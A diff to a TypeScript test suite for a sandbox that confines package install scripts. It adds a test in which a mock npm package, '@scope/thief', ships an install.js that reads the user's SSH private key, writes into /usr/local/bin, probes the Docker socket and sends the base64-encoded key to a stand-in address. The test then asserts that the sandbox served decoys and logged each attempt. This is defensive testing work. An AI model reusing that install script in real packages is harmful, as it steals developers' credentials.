@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
-import { mkdtemp, readdir, readFile, readlink, rm, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readdir, readFile, readlink, rm, writeFile } from 'node:fs/promises';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -8,7 +8,7 @@ import { after, before, describe, test } from 'node:test';
 import { tmpdir } from 'node:os';
 import { errorMessage } from '#kernel';
 import { debianTools, findProgram, namespacesAllowed, runProcess, runtimeEnvironment } from '#system';
-import { type Attempt, type Enclave, openEnclave, probeFrom } from './index.ts';
+import { type Attempt, describeAttempt, type Enclave, openEnclave, probeFrom } from './index.ts';
 
 // On a machine that lacks them they are unpacked into the cache first, as a rehearsal does.
 const found = await debianTools(['ip', 'nft'], { env: process.env }).catch((error: unknown) => errorMessage(error));
@@ -162,10 +162,50 @@ describe('an enclave', { skip }, () => {
     }
     const { stdout } = await shell(
       'api',
-      `ls /run/docker.sock /run/dbus 2>/dev/null; touch /etc/x /usr/x 2>/dev/null && echo wrote; mount -t tmpfs x /mnt 2>/dev/null && echo mounted; ip link set eth0 down 2>/dev/null && echo unplugged; id -u; env | sort | cut -d= -f1 | tr '\\n' ' '; ls -A "$HOME" | wc -l; ls /proc | grep -c '^[0-9]'`,
+      `touch /etc/x /usr/x 2>/dev/null && echo wrote; mount -t tmpfs x /mnt 2>/dev/null && echo mounted; ip link set eth0 down 2>/dev/null && echo unplugged; id -u; env | sort | cut -d= -f1 | tr '\\n' ' '; ls -A "$HOME" | tr '\\n' ' '; ls /proc | grep -c '^[0-9]'`,
     );
-    assert.match(stdout, /^1000\nHOME (LD_LIBRARY_PATH )?PATH PWD (SALLYPORT_LIBRARIES )?TMPDIR 0\n\d\n$/);
+    assert.match(
+      stdout,
+      /^1000\nHOME (LD_LIBRARY_PATH )?PATH PWD (SALLYPORT_LIBRARIES )?TMPDIR (?:\.aws \.docker \.kube \.npmrc \.ssh )\d\n$/,
+    );
   });
+
+  test(
+    'who looks for keys and sockets of the host finds decoys, and is named with the package',
+    { skip },
+    async (t) => {
+      if (enclave.unwatched !== '') return t.skip(`nobody is named: ${enclave.unwatched}`);
+      const folder = join(work, 'node_modules', '@scope', 'thief');
+      await mkdir(folder, { recursive: true });
+      await writeFile(join(folder, 'package.json'), '{"name":"@scope/thief","version":"6.6.6"}');
+      const script = `
+      const { readFileSync, writeFileSync } = require('node:fs');
+      const { connect } = require('node:net');
+      const { homedir } = require('node:os');
+      const quiet = (deed) => { try { return deed(); } catch { return ''; } };
+      const key = quiet(() => readFileSync(homedir() + '/.ssh/id_ed25519', 'utf8'));
+      quiet(() => writeFileSync('/usr/local/bin/left-behind', 'x'));
+      for (const path of ['/var/run/docker.sock', '\\0abstract', '/run/nobody.sock']) connect(path).on('error', () => {});
+      const call = connect(4000, '203.0.113.77', () => call.end(Buffer.from(key).toString('base64')));
+      call.on('error', () => {});`;
+      await writeFile(join(folder, 'install.js'), script);
+      await enclave.run('api', process.execPath, [join(folder, 'install.js')], { ...options(), cwd: folder });
+      const by = { from: 'api', package: '@scope/thief@6.6.6' };
+      assert.notEqual(
+        await tried({ ...by, kind: 'read', path: '/home/user/.ssh/id_ed25519', answer: 'decoy' }),
+        undefined,
+      );
+      assert.notEqual(await tried({ ...by, kind: 'write', path: '/usr/local/bin/left-behind' }), undefined);
+      assert.notEqual(await tried({ ...by, kind: 'socket', path: '/run/docker.sock', answer: 'decoy' }), undefined);
+      assert.notEqual(await tried({ ...by, kind: 'socket', path: '@abstract' }), undefined);
+      assert.notEqual(await tried({ ...by, kind: 'socket', path: '/run/nobody.sock' }), undefined);
+      const call = await tried({ ...by, kind: 'call', address: '203.0.113.77', port: 4000 });
+      assert.match(call?.process?.command ?? '', /install\.js$/);
+      assert.equal(call?.leaks, '/home/user/.ssh/id_ed25519');
+      assert.ok((call?.stalledMs ?? -1) >= 0);
+      assert.equal(describeAttempt(call as Attempt).startsWith('api (@scope/thief@6.6.6: '), true);
+    },
+  );
 
   test('what is not declared is not there, and what is only readable cannot be written', { skip }, async () => {
     const [shown, own, other] = await Promise.all(
